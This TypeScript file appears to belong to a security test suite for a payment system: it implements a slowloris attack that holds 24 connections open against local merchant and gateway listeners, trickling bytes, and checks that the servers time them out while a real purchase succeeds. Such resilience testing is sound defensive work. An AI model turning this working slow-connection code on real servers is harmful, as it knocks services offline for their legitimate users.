/**
 * Slow HTTP (slowloris): a local attacker opens connections to the merchant's and the gateway's
 * payment listeners and sends the headers, or a declared 256 KiB body, a byte a second, so each
 * connection stays busy without ever finishing a request. A listener that waits for them pins
 * sockets and memory until it can serve no one. Each party must cut such a request off at its
 * time limit (runtime's serverLimits: 10 s for headers, 15 s for the whole request) while genuine
 * purchases go on being served.
 */
import * as net from "node:net";
import type { Attack, AttackTarget } from "../attack";
import { completePurchase } from "../toolkit/roguePc";

/** Slow connections per listener and kind: 4 x 6 = 24 in all, a byte a second each. */
const perKind = 6;
const trickleMs = 1000;
/** Longer than the listeners' whole-request limit (15 s) and its check interval, with room to spare. */
const closeDeadlineMs = 30_000;

interface SlowConnection {
  readonly party: "merchant" | "gateway";
  readonly kind: "headers" | "body";
  /** Resolves when the connection closes: the server's doing unless `gaveUp`. */
  readonly closed: Promise<{ readonly afterMs: number; readonly answer: string }>;
  gaveUp: boolean;
  stop(): void;
}

function slowConnection(
  url: string,
  party: SlowConnection["party"],
  kind: SlowConnection["kind"],
): SlowConnection {
  const { hostname, port } = new URL(url);
  const socket = net.connect(Number(port), hostname);
  const opened = Date.now();
  let answer = "";
  let timer: NodeJS.Timeout | undefined;
  socket.on("error", () => {});
  socket.on("data", (d) => {
    answer += d.toString("latin1");
  });
  const head = `POST /set HTTP/1.1\r\nHost: ${hostname}\r\nContent-Type: application/set-payment\r\n`;
  const trickle = kind === "headers" ? "X-Padding: " : `Content-Length: 262144\r\n\r\n`;
  socket.on("connect", () => {
    socket.write(head + trickle);
    timer = setInterval(() => socket.write("a"), trickleMs);
  });
  const conn: SlowConnection = {
    party,
    kind,
    gaveUp: false,
    closed: new Promise((resolve) =>
      socket.on("close", () => {
        if (timer) clearInterval(timer);
        resolve({ afterMs: Date.now() - opened, answer: answer.split("\r\n")[0] ?? "" });
      }),
    ),
    stop() {
      if (timer) clearInterval(timer);
      if (!socket.destroyed) {
        conn.gaveUp = true;
        socket.destroy();
      }
    },
  };
  return conn;
}

function openSlowConnections(target: AttackTarget): SlowConnection[] {
  const all: SlowConnection[] = [];
  for (const [party, url] of [
    ["merchant", target.merchantUrl],
    ["gateway", target.gatewayUrl],
  ] as const)
    for (const kind of ["headers", "body"] as const)
      for (let i = 0; i < perKind; i++) all.push(slowConnection(url, party, kind));
  return all;
}

export const slowBodies: Attack = {
  id: "denial/slow-headers-and-bodies",
  category: "denial",
  title: `A local attacker holds ${4 * perKind} connections to the merchant's and the gateway's payment listeners, sending headers or a declared 256 KiB body a byte a second, while a buyer pays.`,
  expected:
    "The genuine purchase is authorized meanwhile, and each party closes every slow connection itself at its time limit (HTTP 408), well before the attacker would stop.",
  async run(target) {
    const slow = openSlowConnections(target);
    let purchase = "";
    let paid = false;
    try {
      // The buyer pays while every slow connection is open and trickling.
      try {
        const bought = await completePurchase(target);
        await bought.card.close();
        paid = true;
        purchase = "the buyer's purchase completed";
      } catch (e) {
        purchase = `the buyer's purchase failed: ${(e as Error).message.split("\n")[0]}`;
      }
      const deadline = new Promise<"deadline">((resolve) =>
        setTimeout(() => resolve("deadline"), closeDeadlineMs),
      );
      const closedAll = Promise.all(slow.map((c) => c.closed));
      const ended = await Promise.race([closedAll, deadline]);
      const closes = ended === "deadline" ? undefined : ended;
      const byServer = closes ? slow.filter((c) => !c.gaveUp).length : 0;
      const slowest = closes ? Math.max(...closes.map((c) => c.afterMs)) : undefined;
      const answers = closes ? [...new Set(closes.map((c) => c.answer || "(nothing)"))].join(", ") : "";
      const refused = paid && closes !== undefined && byServer === slow.length;
      return {
        refused,
        refusedBy: "merchant",
        signal: closes ? answers : "held open",
        // The attack asks for nothing: whatever the outcome, no order or authorization is its doing.
        stateUnchanged: true,
        detail: `${purchase}; ${
          closes
            ? `the parties closed all ${slow.length} slow connections, the last after ${(slowest! / 1000).toFixed(1)} s (${answers})`
            : `some of the ${slow.length} slow connections were still open after ${closeDeadlineMs / 1000} s`
        }`,
      };
    } finally {
      for (const c of slow) c.stop();
    }
  },
};
